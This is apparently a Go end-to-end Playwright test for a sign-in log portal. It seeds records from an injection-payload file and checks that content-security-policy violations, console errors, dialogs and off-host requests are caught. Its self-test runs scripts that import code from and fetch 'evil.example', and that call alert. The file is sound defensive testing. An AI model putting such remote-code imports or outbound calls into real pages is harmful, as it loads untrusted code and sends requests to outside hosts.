//go:build e2e

package e2e

import (
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/playwright-community/playwright-go"
)

// The crawl has a portal of its own: a made-up tenant, a directory, and sign-ins in which every text is one of those that
// web/testdata/injections.txt holds. Half of these are the crawlers' own, so that their pages are not empty.
const crawlerUPN = "crawler@tidewater-lantern.example"

// crawlerID is the user ID of the accounts that crawl.
const crawlerID = "c4a31000-1111-4000-8000-000000000009"

// crawlers are the accounts, by their columns in the authorization matrix.
var crawlers = map[string]string{"GA": "global-administrator", "RR": "reports-reader", "user": "user"}

// serveForCrawl fills a folder and serves it.
func serveForCrawl(t *testing.T) (base string) {
	t.Helper()
	folder := t.TempDir()
	files, own := filepath.Join(folder, "files"), filepath.Join(folder, "data")
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(signpost("", "demo", "--rows", "2000", "--days", "2", "--out", files, "--directory", files+"-directory"))
	must(writeLines(filepath.Join(files, "injections.ndjson"), injectedSignIns(t)))
	must(signpost("", "import", "--data", own, files, files+"-directory"))
	for column, role := range crawlers {
		must(signpost(password+"\n", "user", "add", "crawler "+column, "--data", own, "--password-stdin", "--role", role, "--upn", crawlerUPN, "--user-id", crawlerID))
	}
	base, stop, err := serveIn(own)
	must(err)
	t.Cleanup(stop)
	return base
}

// injections are the texts of the file that stand there as they are.
func injections(t *testing.T) (texts []string) {
	t.Helper()
	file, err := os.ReadFile(filepath.Join("..", "web", "testdata", "injections.txt"))
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.SplitSeq(string(file), "\n") {
		written := slices.ContainsFunc([]string{"## ", "escaped: ", "json: ", "repeat "}, func(start string) bool { return strings.HasPrefix(line, start) })
		if line != "" && !written {
			texts = append(texts, line)
		}
	}
	if len(texts) < 200 {
		t.Fatalf("%d texts", len(texts))
	}
	return texts
}

// injectedSignIns are as many sign-ins of the last hours as there are texts.
func injectedSignIns(t *testing.T) (records []object) {
	texts := injections(t)
	start := time.Now().UTC().Truncate(time.Second).Add(-10 * time.Minute)
	for i := range texts {
		text := func(n int) string { return texts[(i+7*n)%len(texts)] }
		upn, user := crawlerUPN, crawlerID
		if i%2 == 0 {
			upn, user = text(20), fmt.Sprintf("c4a31000-1111-4000-8000-%012d", i%7)
		}
		at := start.Add(-time.Duration(i) * time.Minute)
		records = append(records, object{"time": at.Add(time.Minute), "category": "SignInLogs", "tenantId": fmt.Sprintf("%032d", 7), text(21): text(22), "properties": object{
			"id": fmt.Sprintf("c4a31000-0000-4000-8000-%012d", i), "createdDateTime": at, "userId": user,
			"userPrincipalName": upn, "userDisplayName": text(0), "appId": fmt.Sprintf("c4a31000-2222-4000-8000-%012d", i%5), "appDisplayName": text(1),
			"resourceId": text(2), "resourceDisplayName": text(3), "ipAddress": text(4), "userAgent": text(5), "clientAppUsed": text(6), "correlationId": text(7),
			"deviceDetail":                     object{"displayName": text(8), "operatingSystem": text(9), "browser": text(10), "deviceId": text(11)},
			"location":                         object{"city": text(12), "state": text(13), "countryOrRegion": text(14)},
			"status":                           object{"errorCode": []int{0, 50126, 53003}[i%3], "failureReason": text(15), "additionalDetails": text(16)},
			"appliedConditionalAccessPolicies": []object{{"displayName": text(17), "result": "failure", "enforcedGrantControls": []string{text(18)}}},
			"authenticationProcessingDetails":  []object{{"key": text(19), "value": text(23)}}, text(24): text(25),
		}})
	}
	return records
}

// routeCell is a page of the authorization matrix and the columns that may open it.
type routeCell struct {
	pattern string
	allowed map[string]bool
}

// readMatrix gives the rows of the matrix in web/matrix_test.go that are read; a test there keeps them equal to the router's.
func readMatrix(t *testing.T) (cells []routeCell) {
	t.Helper()
	source, err := os.ReadFile(filepath.Join("..", "web", "matrix_test.go"))
	if err != nil {
		t.Fatal(err)
	}
	_, after, _ := strings.Cut(string(source), "const routeCells = `")
	table, _, found := strings.Cut(after, "`")
	lines := strings.Split(strings.TrimSpace(table), "\n")
	if !found || len(lines) < 40 {
		t.Fatalf("the matrix has %d lines", len(lines))
	}
	columns := strings.Fields(lines[0])
	for _, line := range lines[1:] {
		words := strings.Fields(line)
		if words[0] != "GET" || slices.ContainsFunc(cells, func(c routeCell) bool { return c.pattern == words[1] }) {
			continue
		}
		cell := routeCell{pattern: words[1], allowed: map[string]bool{}}
		for i, column := range columns {
			cell.allowed[column] = words[i] == "x"
		}
		cells = append(cells, cell)
	}
	return cells
}

// watch notes what goes wrong in a window.
type watch struct {
	base string

	mu       sync.Mutex
	troubles []string
	asked    map[string]bool // paths
	noted    chan struct{}   // holds something when there is a trouble that nobody has waited for
}

func (w *watch) note(format string, values ...any) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.troubles = append(w.troubles, fmt.Sprintf(format, values...))
	select {
	case w.noted <- struct{}{}:
	default:
	}
}

// hears waits for a trouble that begins so.
func (w *watch) hears(start string) bool {
	late := time.After(10 * time.Second)
	for {
		if slices.ContainsFunc(w.take(), func(trouble string) bool { return strings.HasPrefix(trouble, start) }) {
			return true
		}
		select {
		case <-w.noted:
		case <-late:
			return false
		}
	}
}

// met notes the path of something that was asked for.
func (w *watch) met(path string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.asked[path] = true
}

// take gives what went wrong since it was asked last.
func (w *watch) take() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	troubles := w.troubles
	w.troubles = nil
	return troubles
}

// openWatched opens a window in which nothing goes wrong unseen.
func openWatched(t *testing.T, base string) (playwright.Page, *watch) {
	t.Helper()
	w := &watch{base: base, asked: map[string]bool{}, noted: make(chan struct{}, 1)}
	context, err := browser.NewContext(playwright.BrowserNewContextOptions{
		BaseURL: playwright.String(base), Viewport: &playwright.Size{Width: 1440, Height: 900}, ReducedMotion: playwright.ReducedMotionReduce,
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = context.Close() })
	err = context.ExposeFunction("noteViolation", func(args ...any) any {
		w.note("policy violated: %v", args[0])
		return nil
	})
	if err == nil {
		err = context.AddInitScript(playwright.Script{Content: playwright.String(
			`document.addEventListener('securitypolicyviolation', (e) => noteViolation(e.violatedDirective + ' by ' + (e.blockedURI || 'inline') + ' on ' + location.href));`)})
	}
	if err != nil {
		t.Fatal(err)
	}
	page, err := context.NewPage()
	if err != nil {
		t.Fatal(err)
	}
	page.SetDefaultTimeout(float64(20 * time.Second / time.Millisecond))
	page.OnConsole(func(m playwright.ConsoleMessage) {
		if m.Type() == "error" || m.Type() == "warning" {
			w.note("console on %s: %s", page.URL(), m.Text())
		}
	})
	page.OnPageError(func(err error) { w.note("uncaught on %s: %v", page.URL(), err) })
	page.OnDialog(func(d playwright.Dialog) {
		w.note("a dialog on %s: %s", page.URL(), d.Message())
		_ = d.Dismiss()
	})
	page.OnRequest(func(r playwright.Request) {
		u, err := url.Parse(r.URL())
		switch {
		case err != nil || !strings.HasPrefix(r.URL(), base+"/") && u.Scheme != "data":
			w.note("request to another host: %s", r.URL())
		case u.Scheme != "data":
			w.met(u.EscapedPath())
		}
	})
	page.OnRequestFailed(func(r playwright.Request) {
		// A stream ends with its page, and whoever goes on at once waits neither for the icon of a tab nor for the part of a
		// page that comes later: the browser calls that off itself.
		calledOff := r.ResourceType() == "xhr" && r.Failure() != nil && strings.Contains(r.Failure().Error(), "net::ERR_ABORTED")
		if r.ResourceType() != "eventsource" && !strings.Contains(r.URL(), "/favicon.") && !calledOff {
			w.note("failed: %s: %v", r.URL(), r.Failure())
		}
	})
	page.OnResponse(func(r playwright.Response) {
		if r.Status() >= 500 {
			w.note("%d from %s", r.Status(), r.URL())
		}
	})
	return page, w
}

// A crawl that saw nothing would prove nothing: each kind of trouble is noted.
func TestCrawlSeesTrouble(t *testing.T) {
	t.Parallel()
	page, w := openWatched(t, baseURL)
	v := &visit{t: t, page: page, base: baseURL}
	v.must(page.Route("**/gone", func(r playwright.Route) { _ = r.Abort() }))
	v.goTo("/signin")
	if troubles := w.take(); len(troubles) > 0 {
		t.Fatalf("a page without trouble: %q", troubles)
	}
	for what, script := range map[string]string{
		"policy violated: script-src": `() => import('https://evil.example/ran.js').catch(() => {})`,
		"policy violated: require-trusted-types-for": `() => {
			try { document.createElement('script').textContent = 'ran = 1'; } catch {}
		}`,
		"policy violated: style-src": `() => document.body.setAttribute('style', 'color: red')`,
		"policy violated: connect":   `() => fetch('https://evil.example/').catch(() => {})`,
		"console":                    `() => console.error('x')`,
		"uncaught":                   `() => { setTimeout(() => { throw new Error('x'); }); }`,
		"a dialog":                   `() => { setTimeout(() => alert('x')); }`,
		"failed":                     `() => fetch('/gone').catch(() => {})`,
	} {
		v.goTo("/signin")
		w.take() // what the script before it made
		_, err := page.Evaluate(script)
		v.must(err)
		if !w.hears(what) {
			t.Errorf("%s was not noted", what)
		}
	}
}
